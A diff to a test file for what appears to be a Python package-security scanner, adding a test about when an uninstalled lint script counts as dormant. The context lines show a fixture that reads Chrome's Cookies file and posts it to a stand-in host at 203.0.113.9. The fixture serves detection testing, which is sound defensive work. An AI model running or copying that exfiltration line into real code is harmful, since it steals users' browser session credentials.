@@ -148,3 +148,16 @@ def test_credential_read_and_network_in_different_functions_is_a_warning(tmp_pat
                 "'~/.config/google-chrome/Default/Cookies'), 'rb').read()\n"
                 "    requests.post('https://203.0.113.9/c', data=data)\n")
     assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": together}), "PW131") == Severity.HIGH
+
+
+LINT_SCRIPT = "import subprocess\nsubprocess.run(['flake8', '.'])\n"
+
+
+def test_a_script_no_import_can_name_is_dormant_unless_the_build_installs_it(tmp_path: Path) -> None:
+    # lint-code.py at the root of an sdist: nothing imports it and no build config installs it.
+    quiet = _scan(tmp_path / "a", files={"demo/__init__.py": "", "lint-code.py": LINT_SCRIPT})
+    assert not [f for f in quiet if f.id.startswith("PW1") and f.severity >= Severity.MEDIUM]
+    # The same hyphenated folder named as a package in setup.py is installed, and importlib can load it.
+    setup_py = "from setuptools import setup\nsetup(name='demo', version='1.0', packages=['my-tools'])\n"
+    loud = _scan(tmp_path / "b", setup_py, files={"my-tools/__init__.py": "", "my-tools/lint-code.py": LINT_SCRIPT})
+    assert [f for f in loud if f.id == "PW110" and f.severity >= Severity.MEDIUM]
